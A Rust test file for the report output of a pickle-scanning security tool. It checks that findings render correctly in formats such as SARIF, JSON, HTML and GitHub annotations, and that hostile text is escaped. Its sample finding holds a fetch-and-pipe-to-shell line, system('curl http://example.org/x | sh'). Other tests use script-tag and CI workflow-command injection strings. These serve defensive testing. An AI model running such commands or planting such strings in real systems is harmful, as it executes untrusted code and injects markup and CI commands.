//! Every report, of outcomes that are clean, full and hostile.
//!
//! One file, since every report is given the same outcomes.

use serde_json::Value;

use super::*;
use crate::outcome::{ReadFailure, Reason, Skipped, Tally};
use crate::report::phrase::worst_first;
use fickgate_engine::escape::is_hostile;
use fickgate_engine::finding::{EntryRef, EntryRole, Finding, Snippet, SnippetLine};
use fickgate_engine::path::BlobPath;
use fickgate_engine::rule::Rule;

#[path = "../../engine/src/escape/hostile.rs"]
mod hostile;

use hostile::{HOSTILE, runner_obeys};

const FORMATS: &[Format] = &[
    Format::Human,
    Format::Concise,
    Format::Github,
    Format::Json,
    Format::Jsonl,
    Format::Sarif,
    Format::Gitlab,
    Format::Junit,
    Format::Html,
    Format::Summary,
    Format::Outputs,
];

pub(super) fn render(format: Format, outcome: &Outcome, style: &Style) -> String {
    let mut out = Vec::new();
    write(format, outcome, style, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn finding(rule: Rule, path: impl Into<Vec<u8>>, message: &str) -> Finding {
    Finding::new(rule, BlobPath::new(path.into()), message)
}

/// What a run over a small repository could find.
pub(super) fn sample() -> Outcome {
    let line = |offset, text: &str| SnippetLine { offset, text: text.to_owned() };
    let mut call = finding(
        Rule::ImportNotAllowed,
        "models/resnet.pt",
        "loading calls os.system, which is not on the allowlist",
    );
    call.member = "archive/data.pkl".to_owned();
    call.offset = Some(142);
    call.import = Some("os.system".to_owned());
    call.help = Some("if it belongs there: fickgate allow os.system --reason WHY".to_owned());
    call.snippet = Some(Snippet {
        lines: vec![
            line(7, "from os import system"),
            line(142, "_1 = system('curl http://example.org/x | sh')"),
            line(1600, "return {'weight': _1}"),
        ],
        marked: 1,
    });
    let mut typo = finding(
        Rule::ImportNotAllowed,
        "models/resnet.pt",
        "loading imports collections.OrderdDict, which is not on the allowlist",
    );
    typo.member = "archive/data.pkl".to_owned();
    typo.offset = Some(9);
    typo.import = Some("collections.OrderdDict".to_owned());
    typo.entry = Some(EntryRef {
        role: EntryRole::Near,
        import: "collections.OrderedDict".to_owned(),
        layer: "built-in",
        source: "allowlists/stdlib.yaml".to_owned(),
        line: Some(12),
    });
    let mut expired =
        finding(Rule::ExpiredAllow, ".fickgate.yaml", "the entry for my.Model expired on 2026-01-01");
    expired.help = Some("give it a later date, or remove it".to_owned());
    let cut = {
        let mut f =
            finding(Rule::StreamMalformed, "a/old.pkl", "the stream ends inside the argument of BINUNICODE");
        f.offset = Some(0);
        f
    };
    let note = finding(Rule::NotAPickle, "weights.bin", "the extension is .bin, the content is raw data");
    Outcome {
        findings: vec![expired, cut, typo, call, note],
        skipped: vec![
            Skipped { path: BlobPath::new("third_party"), reason: Reason::NoFile("submodule") },
            Skipped { path: BlobPath::new("third_party2"), reason: Reason::NoFile("submodule") },
            Skipped { path: BlobPath::new("latest.pt"), reason: Reason::NoFile("symlink") },
        ],
        failures: vec![],
        notices: vec!["no merge base with main in this shallow clone: the tips are compared".to_owned()],
        tally: Tally { blobs: 12, streams: 3, imports: 41 },
        ..Outcome::default()
    }
}

/// Hostile text in every field of every kind of record.
fn hostile() -> Outcome {
    let long = format!("{}##[error]x\n::error::{}", "a".repeat(1 << 19), "b".repeat(1 << 19));
    let mut outcome = Outcome::default();
    for text in HOSTILE.iter().copied().chain([long.as_str(), ""]) {
        let rules = [Rule::ImportNotAllowed, Rule::ExpiredAllow, Rule::PolicyChanged];
        for rule in rules.into_iter().take(if text.len() > 1000 { 1 } else { 3 }) {
            let mut f = finding(rule, text, text);
            f.member = text.to_owned();
            f.offset = Some(7);
            f.import = Some(text.to_owned());
            f.help = Some(text.to_owned());
            f.entry = Some(EntryRef {
                role: EntryRole::Refuses,
                import: format!("x{text}"),
                layer: "repository",
                source: text.to_owned(),
                line: Some(1),
            });
            let lines = (0..3).map(|offset| SnippetLine { offset, text: text.to_owned() }).collect();
            f.snippet = Some(Snippet { lines, marked: 1 });
            outcome.findings.push(f.clone());
            f.snippet = None;
            f.path = BlobPath::new([text.as_bytes(), b"\xff\x9b"].concat());
            outcome.findings.push(f);
        }
        outcome.failures.push(ReadFailure { path: BlobPath::new(text), message: text.to_owned() });
        outcome.skipped.push(Skipped { path: BlobPath::new(text), reason: Reason::NoFile("symlink") });
        outcome.notices.push(text.to_owned());
    }
    outcome
}

fn many(n: usize) -> Outcome {
    let mut outcome = Outcome::default();
    for i in 0..n {
        let mut f = finding(Rule::ImportNotAllowed, format!("m/{:05}.pkl", i / 20), "not on the allowlist");
        f.offset = Some(i as u64);
        f.import = Some(format!("m.n{i}"));
        outcome.findings.push(f);
    }
    outcome
}

/// What the runner listens to: everything outside `::stop-commands::`.
fn heard(log: &str) -> String {
    let mut lines = log.lines();
    let mut heard = String::new();
    while let Some(line) = lines.next() {
        match line.strip_prefix("::stop-commands::") {
            None => heard.push_str(&format!("{line}\n")),
            Some(token) => {
                let resume = format!("::{token}::");
                assert!(lines.any(|l| l == resume), "commands stay stopped");
            }
        }
    }
    heard
}

#[test]
fn human_shows_the_decompiled_line_and_the_worst_file_first() {
    insta::assert_snapshot!(render(Format::Human, &sample(), &Style::default()));
}

#[test]
fn human_draws_with_unicode_and_colour_where_the_terminal_can() {
    let style = Style { color: true, unicode: true, width: 60, ..Style::default() };
    insta::assert_snapshot!(render(Format::Human, &sample(), &style).replace('\x1b', "␛"));
}

#[test]
fn a_line_that_repeats_the_message_makes_room_for_the_code() {
    let line = |offset, text: &str| SnippetLine { offset, text: text.to_owned() };
    let mut f = finding(Rule::ObjectMutation, "a.pkl", "loading puts items into os.environ");
    f.import = Some("os.environ".to_owned());
    let lines =
        vec![line(37, "environ.update({'a': 'b'})"), line(37, "# loading puts items into os.environ")];
    f.snippet = Some(Snippet { lines, marked: 1 });
    let outcome = Outcome { findings: vec![f], ..Outcome::default() };
    let text = render(Format::Human, &outcome, &Style::default());
    assert_eq!(text.matches("loading puts").count(), 1, "{text}");
    assert!(text.contains(" | 37  environ.update({'a': 'b'})\n |     ^^^^^^^ changes"), "{text}");
}

#[test]
fn quiet_leaves_the_summary_out_and_verbose_adds_notes_and_skipped_files() {
    let quiet = render(Format::Human, &sample(), &Style { quiet: true, ..Style::default() });
    assert!(quiet.contains("os.system") && !quiet.contains("fickgate:"));
    let verbose = render(Format::Human, &sample(), &Style { verbose: 1, ..Style::default() });
    assert!(verbose.contains("note[not-a-pickle]") && verbose.contains("skipped: latest.pt: symlink"));
    let plain = render(Format::Human, &sample(), &Style::default());
    assert!(!plain.contains("not-a-pickle]"));
}

#[test]
fn a_run_that_looked_at_nothing_does_not_read_like_a_clean_one() {
    let mut outcome = Outcome::default();
    let text = render(Format::Human, &outcome, &Style::default());
    assert_eq!(text, "fickgate: no findings in 0 blobs (0 pickles, 0 imports)\n");
    outcome.skipped.push(Skipped { path: BlobPath::new("x"), reason: Reason::NoFile("submodule") });
    outcome.failures.push(ReadFailure { path: BlobPath::new("y.pkl"), message: "permission denied".into() });
    let style = Style { elapsed: Some(std::time::Duration::from_millis(1234)), ..Style::default() };
    let text = render(Format::Human, &outcome, &style);
    assert!(text.contains("error: permission denied\n"), "{text}");
    assert!(text.ends_with("1 file could not be read; 1 skipped: submodule; 1.2 s\n"), "{text}");
}

#[test]
fn github_closes_the_runners_ears_and_annotates() {
    let mut out = Vec::new();
    github::write_with(&sample(), &Style::default(), "TOKEN", &mut out).unwrap();
    insta::assert_snapshot!(String::from_utf8(out).unwrap());
}

#[test]
fn github_token_differs_from_run_to_run() {
    let first = |s: String| s.lines().next().map(str::to_owned);
    let a = first(render(Format::Github, &sample(), &Style::default()));
    let b = first(render(Format::Github, &sample(), &Style::default()));
    assert_ne!(a, b);
}

#[test]
fn github_keeps_to_ten_annotations_of_a_level_and_says_how_many_more() {
    for (n, annotations, more) in
        [(10, 10, None), (12, 10, Some(3)), (60, 10, Some(51)), (30_000, 10, Some(29_991))]
    {
        let heard = heard(&render(Format::Github, &many(n), &Style::default()));
        assert_eq!(heard.matches("::error ").count(), annotations, "{n}");
        match more {
            Some(more) => assert!(heard.contains(&format!("::and {more} more error findings")), "{heard}"),
            None => assert!(!heard.contains("more error")),
        }
    }
}

#[test]
fn json_is_the_documented_document() {
    insta::assert_snapshot!(render(Format::Json, &sample(), &Style::default()));
}

#[test]
fn jsonl_has_the_objects_of_the_document_and_ends_with_its_counts() {
    for outcome in [Outcome::default(), sample(), hostile()] {
        let document: Value =
            serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
        let mut objects: Vec<Value> = Vec::new();
        for (key, kind) in [("findings", "finding"), ("skipped", "skipped"), ("failures", "failure")] {
            for object in document[key].as_array().unwrap() {
                let mut object = object.clone();
                object["type"] = kind.into();
                objects.push(object);
            }
        }
        let notices = document["notices"].as_array().unwrap().iter();
        objects.extend(notices.map(|text| serde_json::json!({"type": "notice", "message": text})));
        let mut end = document["summary"].clone();
        (end["type"], end["schema"], end["shard"]) = ("summary".into(), 1.into(), Value::Null);
        objects.push(end);
        let lines = render(Format::Jsonl, &outcome, &Style::default());
        let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(lines, objects);
    }
}

#[test]
fn json_keeps_paths_that_are_not_utf8() {
    let mut outcome = Outcome::default();
    outcome.findings.push(finding(Rule::StreamMalformed, *b"a\xff.pkl", "x"));
    let json: Value = serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
    assert_eq!(json["findings"][0]["path"], "a\\xff.pkl");
    assert_eq!(json["findings"][0]["path_hex"], "61ff2e706b6c");
}

#[test]
fn json_loses_nothing_of_hostile_text() {
    let outcome = hostile();
    let json: Value = serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
    for (finding, written) in outcome.findings.iter().zip(json["findings"].as_array().unwrap()) {
        assert_eq!(written["member"], finding.member.as_str());
        assert_eq!(written["message"], finding.message.as_str());
        assert_eq!(written["import"].as_str(), finding.import.as_deref());
    }
}

#[test]
fn no_format_lets_hostile_text_speak() {
    let outcome = hostile();
    for format in FORMATS.iter().copied() {
        for style in [Style::default(), Style { unicode: true, width: 40, verbose: 1, ..Style::default() }] {
            let text = render(format, &outcome, &style);
            let bad = text.chars().find(|c| is_hostile(*c) && *c != '\n');
            assert_eq!(bad, None, "{format:?}");
            if format == Format::Github {
                // Nothing but our own annotations is heard, and the stopped part would be mute anyway.
                let ours = ["::error ", "::warning ", "::notice "];
                for line in heard(&text).lines().filter(|l| !l.is_empty()) {
                    assert!(ours.iter().any(|c| line.starts_with(c)), "{line}");
                    let (_, rest) = line.split_once(' ').unwrap();
                    assert_eq!(rest.split_once("::").unwrap().0.matches(':').count(), 0, "{line}");
                    assert!(!line.contains("##["));
                }
                let inner: Vec<&str> = text.lines().filter(|l| !l.starts_with("::")).collect();
                assert!(!runner_obeys(&inner.join("\n")));
            } else {
                assert!(!runner_obeys(&text), "{format:?}");
            }
        }
    }
}

#[test]
fn concise_is_one_line_a_finding() {
    insta::assert_snapshot!(render(Format::Concise, &sample(), &Style::default()));
    for n in [12, 60, 30_000] {
        let text = render(Format::Concise, &many(n), &Style { quiet: true, ..Style::default() });
        assert_eq!(text.lines().count(), n);
    }
}

#[test]
fn sarif_is_a_log_of_one_run() {
    let text = render(Format::Sarif, &sample(), &Style::default());
    let (rules, rest) = text.split_once("\"invocations\"").unwrap();
    insta::assert_snapshot!(rest);
    let document: Value = serde_json::from_str(&text).unwrap();
    let driver = &document["runs"][0]["tool"]["driver"];
    assert_eq!(driver["rules"].as_array().unwrap().len(), Rule::ALL.len());
    assert!(rules.contains("\"id\": \"unused-allow\""));
}

#[test]
fn sarif_names_the_rule_that_its_index_names_and_keeps_to_githubs_limits() {
    let document: Value =
        serde_json::from_str(&render(Format::Sarif, &many(30_000), &Style::default())).unwrap();
    let run = &document["runs"][0];
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 25_000);
    let left_out = &run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"];
    assert_eq!(left_out, "5000 more findings are in the log of the run");
    let document: Value =
        serde_json::from_str(&render(Format::Sarif, &hostile(), &Style::default())).unwrap();
    let run = &document["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for result in run["results"].as_array().unwrap() {
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], result["ruleId"]);
        let uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap();
        assert!(uri.is_ascii() && !uri.contains([':', '?', '#', '|', '<', '`', ' ']), "{uri}");
        assert!(!result["message"]["text"].as_str().unwrap().contains("]("));
    }
}

#[test]
fn a_fingerprint_survives_another_offset_and_a_rename_but_tells_twins_apart() {
    let of = |outcome: &Outcome| -> Vec<String> {
        let document: Value =
            serde_json::from_str(&render(Format::Sarif, outcome, &Style::default())).unwrap();
        let results = document["runs"][0]["results"].as_array().unwrap().clone();
        results
            .iter()
            .map(|r| r["partialFingerprints"]["primaryLocationLineHash"].as_str().unwrap().to_owned())
            .collect()
    };
    let mut outcome = sample();
    let before = of(&outcome);
    for finding in &mut outcome.findings {
        finding.offset = finding.offset.map(|o| o + 100);
        finding.path = BlobPath::new([finding.path.as_bytes(), b"x"].concat());
        finding.message.push('x');
    }
    assert_eq!(of(&outcome), before);
    let twin = outcome.findings[1].clone();
    outcome.findings = vec![twin.clone(), twin];
    let twins = of(&outcome);
    assert_ne!(twins[0], twins[1]);
}

#[test]
fn gitlab_has_one_unique_issue_a_finding() {
    insta::assert_snapshot!(render(Format::Gitlab, &sample(), &Style::default()));
    for outcome in [hostile(), many(30_000)] {
        let document: Value =
            serde_json::from_str(&render(Format::Gitlab, &outcome, &Style::default())).unwrap();
        let issues = document.as_array().unwrap();
        assert_eq!(issues.len(), outcome.findings.len() + outcome.failures.len());
        let prints: std::collections::HashSet<_> =
            issues.iter().map(|i| i["fingerprint"].as_str().unwrap()).collect();
        assert_eq!(prints.len(), issues.len());
    }
}

#[test]
fn junit_has_a_case_a_finding_and_one_for_a_clean_run() {
    insta::assert_snapshot!(render(Format::Junit, &sample(), &Style::default()));
    let clean = render(Format::Junit, &Outcome::default(), &Style::default());
    assert!(clean.contains("tests=\"1\" failures=\"0\""), "{clean}");
    let text = render(Format::Junit, &hostile(), &Style::default());
    let inside = text.lines().filter(|l| l.contains("<script") || l.contains("<img")).count();
    assert_eq!(inside, 0);
}

#[test]
fn summary_is_a_table_with_the_decompiled_lines_folded_away() {
    insta::assert_snapshot!(render(Format::Summary, &sample(), &Style::default()));
}

#[test]
fn summary_keeps_to_its_budget_and_says_what_is_missing() {
    let mut outcome = hostile();
    outcome.findings.extend(many(30_000).findings);
    for budget in [0, 10, 5_000, 100_000, summary::BUDGET] {
        let mut out = Vec::new();
        summary::write(&outcome, &Style::default(), budget, &mut out).unwrap();
        assert!(out.len() <= budget.max(2_000), "{budget}: {}", out.len());
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains(" more findings are in the log."), "{budget}");
        assert_eq!(text.matches("<details>").count(), text.matches("</details>").count());
        let rows = text.lines().filter(|l| ["| 🔴", "| 🟡", "| 🔵"].iter().any(|m| l.starts_with(m))).count();
        let counted = format!("{} more findings", worst_first(&outcome, &Style::default()).len() - rows);
        assert!(text.contains(&counted), "{budget}: {counted}");
    }
}

#[test]
fn summary_has_no_markup_but_its_own() {
    let text = render(Format::Summary, &hostile(), &Style { verbose: 1, ..Style::default() });
    let ours = [
        "<details>",
        "</details>",
        "<summary>",
        "</summary>",
        "<pre>",
        "</pre>",
        "<code>",
        "</code>",
        "<br>",
    ];
    let mut rest = text.replace("| | Rule | Where | What |\n|---|---|---|---|\n", "");
    for tag in ours {
        rest = rest.replace(tag, "");
    }
    assert!(!rest.contains(['<', '`', '[', ']', '@']));
    for line in rest.lines().filter(|l| l.starts_with('|')) {
        assert_eq!(line.matches('|').count(), 5, "{line}");
    }
}

#[test]
fn the_page_has_every_finding_by_file_library_and_commit() {
    let mut outcome = sample();
    outcome.findings[3].commit = Some("0123456789abcdef0123456789abcdef01234567".to_owned());
    let text = render(Format::Html, &outcome, &Style::default());
    insta::assert_snapshot!(text.split_once("</style>").unwrap().1);
    assert_eq!(text.matches("<article").count(), outcome.findings.len());
    // It names nothing that a browser would fetch or run.
    for wanted in ["<script", "<link", "<img", "<iframe", "http:", "https:", "url(", "@import"] {
        let page = text.replace("http://example.org/x", "");
        assert!(!page.split_once("<body>").unwrap().1.contains(wanted), "{wanted}");
    }
}

#[test]
fn the_page_has_no_markup_but_its_own() {
    let mut outcome = hostile();
    for (at, finding) in outcome.findings.iter_mut().enumerate() {
        finding.commit = (at % 2 == 0).then(|| "<script>alert(1)</script>\"'&".to_owned());
    }
    let text = render(Format::Html, &outcome, &Style { verbose: 1, ..Style::default() });
    let ours = [
        "article", "body", "code", "details", "div", "footer", "h1", "h2", "h3", "header", "li", "nav", "p",
        "pre", "section", "span", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul", "a", "br",
        "html",
    ];
    let body = text.split_once("<body>").unwrap().1;
    for tag in body.split('<').skip(1) {
        let tag = tag.split_once('>').expect("a tag ends").0;
        let name = tag.trim_start_matches('/').split(' ').next().unwrap();
        assert!(ours.contains(&name), "{tag}");
        for attribute in tag.split('"').skip(1).step_by(2) {
            let plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '#' | '-');
            assert!(attribute.chars().all(plain), "{tag}");
        }
    }
    for tag in ["details", "article", "section", "table", "pre", "code", "ul"] {
        let opened = body.matches(&format!("<{tag}>")).count() + body.matches(&format!("<{tag} ")).count();
        assert_eq!(opened, body.matches(&format!("</{tag}>")).count(), "{tag}");
    }
    assert!(!text.chars().any(|c| is_hostile(c) && c != '\n'));
}

#[test]
fn pinned_content_is_suppressed_in_sarif_with_the_reason() {
    let mut outcome = sample();
    let finding = outcome.findings.remove(3);
    let by = crate::outcome::PolicyLine {
        source: ".fickgate.yaml".to_owned(),
        line: 4,
        layer: fickgate_engine::policy::Layer::Repository,
    };
    outcome.suppressed.push(crate::outcome::Suppressed { finding, by, reason: "reviewed".to_owned() });
    outcome.provenance = Some(crate::source::Provenance {
        repository: "https://example.org/a/b".to_owned(),
        revision: Some("ab".repeat(20)),
        branch: None,
    });
    let document: Value = serde_json::from_str(&render(Format::Sarif, &outcome, &Style::default())).unwrap();
    let run = &document["runs"][0];
    let last = run["results"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["properties"]["import"], "os.system");
    assert_eq!(last["suppressions"][0]["kind"], "external");
    assert_eq!(last["suppressions"][0]["justification"], ".fickgate.yaml:4 (repository): reviewed");
    assert_eq!(
        run["results"].as_array().unwrap().iter().filter(|r| r.get("suppressions").is_some()).count(),
        1
    );
    assert_eq!(run["versionControlProvenance"][0]["repositoryUri"], "https://example.org/a/b");
    assert_eq!(run["versionControlProvenance"][0]["revisionId"], "ab".repeat(20));
}

#[test]
fn on_a_terminal_no_line_is_wider_than_it_and_no_word_is_broken() {
    for width in [60, 80, 100, 200] {
        let style = Style { width, wrap: Some(width), ..Style::default() };
        let text = render(Format::Human, &sample(), &style);
        for line in text.lines() {
            assert!(line.chars().count() <= width, "{width}: {line}");
        }
        let words = |text: &str| {
            let drawing = |word: &&str| !word.chars().all(|c| "|=^-> ".contains(c));
            text.split_whitespace().filter(drawing).map(str::to_owned).collect::<Vec<_>>()
        };
        let plain = render(Format::Human, &sample(), &Style { width, ..Style::default() });
        assert_eq!(words(&text), words(&plain), "{width}");
    }
}

#[test]
fn what_nobody_has_judged_is_allowed_by_one_command() {
    let mut outcome = many(12);
    for finding in &mut outcome.findings {
        finding.reason = Some(fickgate_engine::finding::Reason::Unknown);
        finding.import = Some(format!("ours.models.M{}", finding.offset.unwrap() % 3));
    }
    let text = render(Format::Human, &outcome, &Style::default());
    let closing = "12 findings, 3 imports that nobody has judged: to allow all, if they are yours and safe: \
                   `fickgate allow --from-findings --reason WHY`\n";
    assert!(text.contains(closing), "{text}");
    assert_eq!(text.matches("--from-findings").count(), 1);
}

#[test]
fn lines_of_the_policy_that_leave_files_out_are_counted_together() {
    let mut outcome = Outcome::default();
    for line in 1..=40 {
        let by = crate::outcome::PolicyLine {
            source: ".fickgate.yaml".to_owned(),
            line,
            layer: fickgate_engine::policy::Layer::Repository,
        };
        outcome
            .skipped
            .push(Skipped { path: BlobPath::new(format!("{line}.pkl")), reason: Reason::Accepted { by } });
    }
    let text = render(Format::Human, &outcome, &Style::default());
    assert!(text.ends_with("; 40 skipped: accepted as it is by .fickgate.yaml (40)\n"), "{text}");
}

#[test]
fn outputs_are_numbers() {
    assert_eq!(
        render(Format::Outputs, &sample(), &Style::default()),
        "findings=5\nerrors=3\nwarnings=1\nscanned=12\npickles=3\nskipped=3\nfailures=0\n"
    );
}

#[test]
fn reports_go_to_files_and_what_github_collects_is_appended() {
    let folder = tempfile::tempdir().unwrap();
    let to = |format, name: &str| ReportTo { format, file: folder.path().join(name) };
    let read = |to: &ReportTo| std::fs::read_to_string(&to.file).unwrap();
    let style = Style { color: true, unicode: true, ..Style::default() };
    for format in [Format::Json, Format::Concise] {
        let to = to(format, "report");
        for _ in 0..2 {
            write_file(&to, &sample(), &style).unwrap();
            assert_eq!(read(&to), render(format, &sample(), &Style::default()));
        }
    }
    let outputs = to(Format::Outputs, "outputs");
    std::fs::write(&outputs.file, "mine=1\n").unwrap();
    write_file(&outputs, &sample(), &style).unwrap();
    assert!(read(&outputs).starts_with("mine=1\nfindings=5\n"));
    let summary = to(Format::Summary, "summary");
    std::fs::write(&summary.file, "x".repeat(summary::BUDGET)).unwrap();
    write_file(&summary, &sample(), &style).unwrap();
    assert!(read(&summary).len() < 1 << 20);
    let error = write_file(&to(Format::Json, "no/such/folder"), &sample(), &style).unwrap_err();
    assert!(error.message().starts_with("cannot write the report ") && error.help().is_some());
}

#[test]
fn a_report_is_named_as_format_and_file() {
    let parsed: ReportTo = "sarif=out/a=b.sarif".parse().unwrap();
    assert_eq!(parsed, ReportTo { format: Format::Sarif, file: "out/a=b.sarif".into() });
    for wrong in ["sarif", "sarif=", "=x", "sarfi=x", "summary=-"] {
        assert!(wrong.parse::<ReportTo>().is_err(), "{wrong}");
    }
}

#[test]
fn thirty_thousand_findings_are_counted_in_every_format() {
    for n in [12, 60, 30_000] {
        let outcome = many(n);
        let human = render(Format::Human, &outcome, &Style::default());
        assert!(human.contains(&format!("{n} errors in")));
        let listed = human.matches("error[").count();
        let more =
            human.split("and ").nth(1).and_then(|s| s.split(' ').next()).map_or(0, |s| s.parse().unwrap());
        assert_eq!(listed + more, n);
        let verbose = render(Format::Human, &outcome, &Style { verbose: 1, ..Style::default() });
        assert_eq!(verbose.matches("error[").count(), n);
        let json: Value = serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
        assert_eq!(json["findings"].as_array().unwrap().len(), n);
        assert_eq!(json["summary"]["findings"], n);
    }
}

/// What is wrong with `value` under `schema`: the part of JSON Schema that `docs/report.schema.json`
/// uses, and keys the schema does not name.
fn violations(root: &Value, schema: &Value, value: &Value, at: &str, wrong: &mut Vec<String>) {
    if let Some(name) = schema["$ref"].as_str() {
        let target = root.pointer(name.trim_start_matches('#')).expect("a $ref has a target");
        return violations(root, target, value, at, wrong);
    }
    let is = |name: &str| match name {
        "object" => value.is_object(),
        "array" => value.is_array(),
        "string" => value.is_string(),
        "integer" => value.is_u64() || value.is_i64(),
        "null" => value.is_null(),
        other => panic!("the schema names a type {other}"),
    };
    let types: Vec<&str> = match &schema["type"] {
        Value::String(one) => vec![one],
        Value::Array(many) => many.iter().filter_map(Value::as_str).collect(),
        _ => vec![],
    };
    if !types.is_empty() && !types.into_iter().any(is) {
        wrong.push(format!("{at}: {value} is not {}", schema["type"]));
    }
    if schema.get("const").is_some_and(|c| c != value)
        || schema["enum"].as_array().is_some_and(|e| !e.contains(value))
    {
        wrong.push(format!("{at}: {value} is not a listed value"));
    }
    if let Some(object) = value.as_object() {
        for key in schema["required"].as_array().into_iter().flatten().filter_map(Value::as_str) {
            if !object.contains_key(key) {
                wrong.push(format!("{at}: {key} is missing"));
            }
        }
        for (key, inner) in object {
            match schema["properties"].get(key) {
                Some(schema) => violations(root, schema, inner, &format!("{at}.{key}"), wrong),
                None => wrong.push(format!("{at}: {key} is not in the schema")),
            }
        }
    }
    for (i, inner) in value.as_array().into_iter().flatten().enumerate() {
        violations(root, &schema["items"], inner, &format!("{at}[{i}]"), wrong);
    }
}

#[test]
fn json_follows_its_schema() {
    let schema: Value = serde_json::from_str(include_str!("../../docs/report.schema.json")).unwrap();
    for outcome in [Outcome::default(), sample(), hostile()] {
        let document: Value =
            serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
        let mut wrong = Vec::new();
        violations(&schema, &schema, &document, "$", &mut wrong);
        assert_eq!(wrong, Vec::<String>::new());
    }
}

/// Writes every outcome in every format to the folder FICKGATE_REPORTS, for `tests/report/validate.py`,
/// which reads them with other people's readers.
#[test]
#[ignore = "needs FICKGATE_REPORTS; tests/report/validate.py runs it"]
fn write_reports_for_other_readers() {
    let folder = std::path::PathBuf::from(std::env::var_os("FICKGATE_REPORTS").unwrap());
    let outcomes = [
        ("empty", Outcome::default()),
        ("sample", sample()),
        ("hostile", hostile()),
        ("12", many(12)),
        ("60", many(60)),
        ("30000", many(30_000)),
    ];
    let style = Style { verbose: 1, ..Style::default() };
    for (name, outcome) in outcomes {
        for format in FORMATS.iter().copied() {
            let file = folder.join(format!("{name}.{format:?}").to_lowercase());
            std::fs::write(file, render(format, &outcome, &style)).unwrap();
        }
        let counts = serde_json::json!({
            "findings": outcome.findings.len(),
            "failures": outcome.failures.len(),
            "skipped": outcome.skipped.len(),
            "paths": outcome.findings.iter().map(|f| escape::lossless(f.path.as_bytes())).collect::<Vec<_>>(),
        });
        std::fs::write(folder.join(format!("{name}.expected")), counts.to_string()).unwrap();
    }
}
